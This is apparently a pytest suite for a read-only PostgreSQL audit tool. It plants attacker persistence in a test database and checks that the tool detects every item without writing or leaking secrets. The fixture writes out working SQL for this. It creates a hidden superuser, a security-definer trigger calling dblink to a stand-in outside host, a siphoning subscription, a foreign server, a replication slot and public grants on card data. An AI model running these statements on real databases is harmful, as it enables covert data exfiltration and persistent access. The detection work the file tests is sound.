"""A real PostgreSQL is asked: what is there is seen, what can't be seen says why, and nothing is written."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator

import psycopg
import pytest

from herotui.audit.databases.look import DatabaseLook
from herotui.audit.databases.postgres import inspect_postgres
from herotui.audit.databases.questions import questions
from herotui.incident.known import NotSeen, Seen
from herotui.secret import Secret
from tests.audit.databases.servers import Postgres, free_port, line, stranger

PATIENCE = 2.0


async def _look(url: str, patience: float = PATIENCE) -> DatabaseLook:
    return await inspect_postgres(Secret(url), app="shop", addon="postgresql-round-1", patience=patience)


@pytest.fixture(scope="module")
def left(pg: Postgres) -> Iterator[Postgres]:
    """A database in which an attacker has left everything that one can leave."""
    pg.run(
        "create role app login",
        "create role eve login superuser replication password 'pFAKEevespassword'",
        "create role reader login",
        "grant pg_read_all_data to reader",
        "alter role app set search_path = 'sneaky, public'",
        "create table customers (id int, card text)",
        "insert into customers select n, 'card' || n from generate_series(1, 2000) as n",
        "analyze customers",
        "select count(*) from customers",
        "grant select on customers to public",
        "alter default privileges grant select on tables to app",
        "create table writes (at timestamptz default now())",
        "create function phone_home() returns trigger language plpgsql security definer as "
        "$$begin perform dblink('host=db.elsewhere.example password=pFAKEindblink'); return new; end$$",
        "create trigger leak after insert on customers for each row execute function phone_home()",
        "create function note() returns event_trigger language plpgsql as "
        "$$begin insert into public.writes default values; end$$",
        "create event trigger watch on ddl_command_end execute function note()",
        "create publication everything for all tables",
        "create subscription siphon connection 'host=db.elsewhere.example user=eve password=pFAKEsubscription' "
        "publication everything with (connect = false)",
        "create foreign data wrapper postgres_fdw",
        "create server loot foreign data wrapper postgres_fdw "
        "options (host 'db.elsewhere.example', port '5432', secret 'pFAKEoption')",
        "create user mapping for app server loot options (user 'eve', password 'pFAKEmapping')",
        "create foreign table stolen (id int) server loot",
        "select pg_create_logical_replication_slot('siphon_slot', 'pgoutput')",
        "create rule copy_it as on insert to customers do also insert into writes default values",
    )
    yield pg
    pg.run(
        "drop event trigger watch",
        "select pg_drop_replication_slot('siphon_slot')",
        "alter subscription siphon disable",
        "alter subscription siphon set (slot_name = none)",
        "drop subscription siphon",
    )


async def test_everything_that_was_left_is_seen(left: Postgres) -> None:
    look = await _look(left.url())
    seen = {name: look.rows(name) for name in questions()}
    unseen = {name for name, known in look.answers.items() if isinstance(known, NotSeen)}
    assert unseen == {"statements"}, "pg_stat_statements is not in this PostgreSQL"
    assert {row["role"] for row in seen["roles"]} >= {"postgres", "app", "eve", "reader"}
    (eve,) = (row for row in seen["roles"] if row["role"] == "eve")
    assert (eve["superuser"], eve["replication"], eve["login"]) == (True, True, True)
    assert [row["member_of"] for row in seen["roles"] if row["role"] == "reader"] == ["pg_read_all_data"]
    assert seen["role_settings"] == ({"role": "app", "database": "", "setting": "search_path"},)
    assert [(row["grantee"], row["rights"], row["example"]) for row in seen["grants"]] == [
        ("PUBLIC", "SELECT", "customers"),
        ("app", "SELECT", "stolen"),
    ]
    assert [row["grantee"] for row in seen["default_grants"]] == ["app"]
    functions = {row["function"]: row for row in seen["functions"]}
    assert functions["phone_home"]["runs_as_owner"] is True
    assert functions["phone_home"]["reaches_out"] is True
    assert functions["note"]["reaches_out"] is False
    assert [row["trigger"] for row in seen["triggers"]] == ["leak"]
    assert [(row["trigger"], row["event"]) for row in seen["event_triggers"]] == [("watch", "ddl_command_end")]
    assert [row["rule"] for row in seen["rules"]] == ["copy_it"]
    assert seen["publications"] == ({"publication": "everything", "owner": "postgres", "all_tables": True},)
    assert [row["subscription"] for row in seen["subscriptions"]] == ["siphon"]
    assert [row["address"] for row in seen["subscription_hosts"]] == ["db.elsewhere.example"]
    assert [row["address"] for row in seen["foreign_servers"]] == ["host=db.elsewhere.example, port=5432"]
    assert seen["user_mappings"] == ({"server": "loot", "role": "app"},)
    assert [row["on_table"] for row in seen["foreign_tables"]] == ["stolen"]
    assert [(row["slot"], row["active"]) for row in seen["slots"]] == [("siphon_slot", False)]
    assert seen["largest_reads"][0]["on_table"] == "customers"
    assert seen["largest_reads"][0]["last_whole_read"]
    assert "FAKE" not in str(look.as_data())
    assert look.version.startswith("16.")
    assert (look.role, look.own, look.line) == ("postgres", "127.0.0.1", "on this machine")


async def test_a_session_is_seen_with_address_name_start_and_no_literal(left: Postgres) -> None:
    with psycopg.connect(left.url("eve"), application_name="psql [bold]\u202e") as other:
        other.execute("select 'top secret', 4242, $$hidden$$ from customers where card = E'it\\'s' limit 1")
        look = await _look(left.url())
    (session,) = (row for row in look.rows("sessions") if row["role"] == "eve")
    assert session["address"] == "127.0.0.1"
    assert str(session["application"]).startswith("psql [bold]")
    assert "\u202e" not in str(session["application"])
    assert str(session["started"]).endswith("Z")
    assert session["query"] == "select ?, ?, ? from customers where card = ? limit ?"


async def test_a_role_without_rights_sees_less_and_is_told_what(left: Postgres) -> None:
    with psycopg.connect(left.url("eve"), application_name="theirs") as other:
        other.execute("select 1")
        look = await _look(left.url("app"))
    sessions, hosts = look.answers["sessions"], look.answers["subscription_hosts"]
    assert isinstance(sessions, Seen)
    assert any("no right" in line for line in sessions.spoiled)
    assert isinstance(hosts, NotSeen)
    assert hosts.cause == "forbidden"
    assert isinstance(look.answers["roles"], Seen)


async def test_nothing_is_written_and_nothing_left_there_is_run(left: Postgres) -> None:
    left.run(
        "create schema if not exists sneaky",
        "create or replace function sneaky.count_it() returns bool language plpgsql as "
        "$$begin insert into public.writes default values; return true; end$$",
        "create or replace view sneaky.pg_stat_activity as select sneaky.count_it()",
        "create or replace function sneaky.pg_backend_pid() returns int language plpgsql as "
        "$$begin perform sneaky.count_it(); return 1; end$$",
    )
    # A transaction that writes takes a number; one that reads takes none.
    numbers = "select pg_snapshot_xmax(pg_current_snapshot())"
    before = left.run(numbers), left.run("select count(*) from public.writes")
    look = await _look(left.url("app"))
    assert isinstance(look.answers["sessions"], Seen)
    assert (left.run(numbers), left.run("select count(*) from public.writes")) == before


async def test_a_session_of_ours_can_write_nothing(left: Postgres) -> None:
    from herotui.audit.databases.address import address_of
    from herotui.audit.databases.postgres import _connected

    connection, _ = await _connected(address_of(Secret(left.url())), PATIENCE)
    async with connection:
        with pytest.raises(psycopg.errors.ReadOnlySqlTransaction):
            await connection.execute("insert into public.writes default values")
        (found,) = await (await connection.execute("show statement_timeout")).fetchall()
        assert found == ("2s",)


async def test_a_database_that_refuses_is_not_seen() -> None:
    look = await _look(f"postgres://u:pFAKEsecret@127.0.0.1:{free_port()}/d")
    assert set(look.answers) == set(questions())
    for known in look.answers.values():
        assert isinstance(known, NotSeen)
        assert "refused" in known.reason
        assert "FAKE" not in known.reason + known.how


async def test_a_wrong_name_says_so_without_the_password(pg: Postgres) -> None:
    look = await _look(pg.url("nobody_here"))
    known = look.answers["sessions"]
    assert isinstance(known, NotSeen)
    assert "nobody_here" in known.reason
    assert "FAKE" not in known.reason


async def test_a_database_that_says_nothing_is_left_after_the_time_out() -> None:
    async with stranger() as (port, _):
        look = await asyncio.wait_for(_look(f"postgres://u:p@127.0.0.1:{port}/d", 0.3), 10)
    known = look.answers["sessions"]
    assert isinstance(known, NotSeen)
    assert known.cause == "no_answer"


@pytest.mark.slow
async def test_a_database_that_falls_silent_leaves_what_was_seen(left: Postgres) -> None:
    async with line(left.port, lets=2500) as port:
        look = await asyncio.wait_for(_look(left.url(port=port), 0.3), 20)
    causes = [known.cause if isinstance(known, NotSeen) else "seen" for known in look.answers.values()]
    assert causes[0] == "seen"
    assert "no_answer" in causes
    assert set(causes[causes.index("no_answer") :]) == {"no_answer"}


async def test_a_question_that_takes_too_long_is_given_up_and_the_next_is_asked(left: Postgres) -> None:
    with psycopg.connect(left.url()) as other:
        other.execute("lock table pg_catalog.pg_publication in access exclusive mode")
        look = await asyncio.wait_for(_look(left.url(), 0.5), 30)
    publications = look.answers["publications"]
    assert isinstance(publications, NotSeen)
    assert publications.cause == "no_answer"
    assert isinstance(look.answers["foreign_servers"], Seen)


async def test_another_version_lacks_what_it_lacks(left: Postgres, monkeypatch: pytest.MonkeyPatch) -> None:
    from dataclasses import replace

    from herotui.audit.databases import postgres

    known = questions()
    old = replace(known["slots"], sql="select new_column from pg_replication_slots")
    gone = replace(known["rules"], sql="select 1 from pg_new_view")
    monkeypatch.setattr(postgres, "questions", lambda: {"slots": old, "rules": gone, "roles": known["roles"]})
    look = await _look(left.url())
    for name in ("slots", "rules"):
        answer = look.answers[name]
        assert isinstance(answer, NotSeen)
        assert answer.cause == "version"
        assert "16." in answer.reason
    assert isinstance(look.answers["roles"], Seen)


async def test_a_server_that_asks_for_the_password_in_clear_does_not_get_it() -> None:
    asks_in_clear = b"R\x00\x00\x00\x08\x00\x00\x00\x03"
    async with stranger(b"N", asks_in_clear) as (port, heard):
        look = await asyncio.wait_for(_look(f"postgres://u:pFAKEsecret@127.0.0.1:{port}/d", 1.0), 10)
    known = look.answers["sessions"]
    assert isinstance(known, NotSeen)
    assert b"herotui" in heard
    assert b"FAKE" not in heard


async def test_a_look_survives_json(left: Postgres) -> None:
    look = await _look(left.url("app"))
    again = DatabaseLook.from_data(look.as_data())
    assert again.as_data() == look.as_data()


async def test_statements_are_counted_where_the_extension_is_whatever_its_schema_is_called(pg: Postgres) -> None:
    """The wheel's PostgreSQL lacks pg_stat_statements; a table takes its place, and is listed as the extension's."""
    pg.run(
        'create schema "Odd ""schema"',
        'create table "Odd ""schema".pg_stat_statements as select 10::oid as userid, d.oid as dbid, '
        "3::bigint as calls, 2000::bigint as rows, s.query from pg_database as d, "
        "(values ('COPY public.customers TO stdout'), ('create role eve password ''pFAKEstatement'''), ('select 1')) "
        "as s (query) "
        "where datname = current_database()",
        "set allow_system_table_mods = on",
        "insert into pg_extension select 99999, 'pg_stat_statements', 10, oid, true, '1.10', null, null "
        "from pg_namespace where nspname like 'Odd%'",
    )
    try:
        look = await _look(pg.url())
    finally:
        pg.run(
            "set allow_system_table_mods = on",
            "delete from pg_extension where oid = 99999",
            'drop schema "Odd ""schema" cascade',
        )
    assert {row["query"] for row in look.rows("statements")} == {
        "COPY public.customers TO stdout",
        "create role eve password ?",
    }
    assert {row["role"] for row in look.rows("statements")} == {"postgres"}


async def test_many_rows_are_cut_and_that_is_said(left: Postgres) -> None:
    left.run("do $$begin for n in 1..600 loop execute format('create role many_%s', n); end loop; end$$")
    try:
        roles = (await _look(left.url())).answers["roles"]
    finally:
        left.run("do $$begin for n in 1..600 loop execute format('drop role many_%s', n); end loop; end$$")
    assert isinstance(roles, Seen)
    assert (len(roles.items), roles.more) == (500, True)


async def test_the_users_environment_leads_nowhere_else(pg: Postgres, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PGHOSTADDR", "127.0.0.9")
    monkeypatch.setenv("PGOPTIONS", "-c default_transaction_read_only=off")
    monkeypatch.setenv("PGSSLMODE", "disable")
    look = await _look(pg.url() + "?host=127.0.0.9&options=-c%20default_transaction_read_only%3Doff")
    assert isinstance(look.answers["roles"], Seen)
    assert look.own == "127.0.0.1"


@pytest.mark.parametrize(
    "url", ["", "not a url", "https://a/b", "postgres:///d", "postgres://u:p@/d", "postgres://u:p@a,b/d",
            "postgres://u:p@%2Ftmp/d", "postgres://u:p@h:99999/d", "mysql://u:p@h/d"]
)  # fmt: skip
async def test_what_is_no_address_is_not_dialled(url: str) -> None:
    known = (await _look(url)).answers["sessions"]
    assert isinstance(known, NotSeen)
    assert known.cause == "no_address"


async def test_the_hash_tells_that_a_function_was_changed_however_it_is_written(pg: Postgres) -> None:
    hashes = set()
    for body in ("begin atomic select 1; end", "begin atomic select 2; end", "as 'select 3'"):
        pg.run(f"create or replace function changing() returns int language sql {body}")
        look = await _look(pg.url())
        hashes |= {row["hash"] for row in look.rows("functions") if row["function"] == "changing"}
    assert len(hashes) == 3
